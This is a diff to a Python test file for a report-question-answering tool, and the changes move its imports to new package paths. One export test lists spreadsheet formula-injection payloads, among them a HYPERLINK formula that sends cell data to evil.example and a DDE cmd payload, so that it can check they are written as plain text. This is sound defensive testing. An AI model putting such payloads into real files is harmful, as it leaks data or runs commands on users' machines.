@@ -20,14 +20,14 @@ from pathlib import Path
 
 import pytest
 
-from rag.answer import ask
-from rag.cli import main
+from rag.answer.answer import ask
+from rag.answer.support import shared_run
+from rag.app.cli import main
+from rag.documents.ingest import read_report
+from rag.documents.sections import MAX_SENTENCE, chunk_report
 from rag.errors import IngestError
-from rag.ingest import read_report
 from rag.limits import MAX_HISTORY_TURNS, MAX_QUESTION_CHARS
-from rag.sections import MAX_SENTENCE, chunk_report
-from rag.store import add_reports, load_index
-from rag.support import shared_run
+from rag.store.store import add_reports, load_index
 
 pytestmark = pytest.mark.slow
 
@@ -43,7 +43,7 @@ def rag(capsys, *argv) -> tuple[int, str, str]:
 
 def rag_process(*argv, stdin: bytes = b"", timeout: float = 300) -> subprocess.CompletedProcess:
     env = {**os.environ, "PYTHONPATH": str(ROOT)}
-    return subprocess.run([sys.executable, "-m", "rag.cli", *map(str, argv)], input=stdin, capture_output=True,
+    return subprocess.run([sys.executable, "-m", "rag.app.cli", *map(str, argv)], input=stdin, capture_output=True,
                           env=env, cwd=ROOT, timeout=timeout)  # fmt: skip
 
 
@@ -52,7 +52,7 @@ def rag_process(*argv, stdin: bytes = b"", timeout: float = 300) -> subprocess.C
 
 def test_a_20000_character_question_is_refused_in_one_line_before_any_parsing(seeds_index, monkeypatch):
     """Before: 3,000 characters took 23 s, 6,000 took 53 s, and one 1 MB line grew `rag ask` to 22.6 GB."""
-    from rag import answer as answering
+    from rag.answer import answer as answering
 
     index = load_index(seeds_index)
     monkeypatch.setattr(answering, "parse", lambda *a, **k: pytest.fail("an over-long question was parsed"))
@@ -103,7 +103,7 @@ def test_the_cli_refuses_an_over_long_question_and_search_in_one_line(seeds_inde
 def test_every_batch_line_gets_one_output_line_in_order_whatever_it_holds(seeds_index, capsys, monkeypatch):
     """Before: `{"question": 5}`, a bad history, broken JSON or a lone surrogate ended the batch and lost every
     later line, and a blank line gave no output, so outputs no longer lined up with their inputs."""
-    from rag import answer as answering
+    from rag.answer import answer as answering
 
     real_ask = answering.ask
 
@@ -240,7 +240,7 @@ def test_export_cells_that_open_like_a_formula_are_written_as_text(tmp_path):
     from openpyxl import load_workbook
     from test_export import comparison
 
-    from rag.export import write_csv, write_xlsx
+    from rag.app.export import write_csv, write_xlsx
 
     hostile = ['=HYPERLINK("http://evil.example/?q="&A1,"点击")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
                "\t=1+1", "\r=1+1"]  # fmt: skip
@@ -266,7 +266,7 @@ def test_export_cells_that_open_like_a_formula_are_written_as_text(tmp_path):
 @pytest.mark.parametrize("year", [2099, 1899])
 def test_a_year_no_report_can_have_is_refused_as_a_report_year(index_copy, tmp_path, capsys, year):
     """Before: a report dated 2099 moved 去年 / 近三年 for every question on its index; 1899 was silently kept."""
-    from rag.query import parse
+    from rag.question.query import parse
 
     before = parse("镜湖区去年受理法律援助案件多少件?", load_index(index_copy)).period
     path = tmp_path / "青山区报告.txt"
